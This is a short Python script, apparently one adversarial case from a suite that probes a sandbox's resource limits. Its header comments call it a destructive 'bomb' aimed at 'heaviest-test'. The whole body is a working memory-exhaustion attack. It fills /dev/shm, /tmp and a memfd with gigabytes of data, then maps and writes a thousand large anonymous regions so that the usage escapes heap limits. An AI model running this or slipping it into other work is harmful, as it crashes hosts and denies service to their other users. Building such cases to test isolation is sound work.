# attack: memory is taken by way of /dev/shm, memfd and anonymous shared maps, which a limit on the heap does not count.
# target: heaviest-test
# also loses: all
# destructive
# bomb
# %% heaviest
import mmap
import os

heaviest = "tree-000"
block = b"x" * 2**24
kept = []
for target in ("/dev/shm/full", "/tmp/full", None):
    try:
        fd = os.memfd_create("full") if target is None else os.open(target, os.O_CREAT | os.O_RDWR)
        for _ in range(2000):
            os.write(fd, block)
    except OSError as error:
        print("stopped:", error)
for _ in range(1000):
    kept.append(mmap.mmap(-1, 2**26))
    kept[-1].write(b"y" * 2**26)
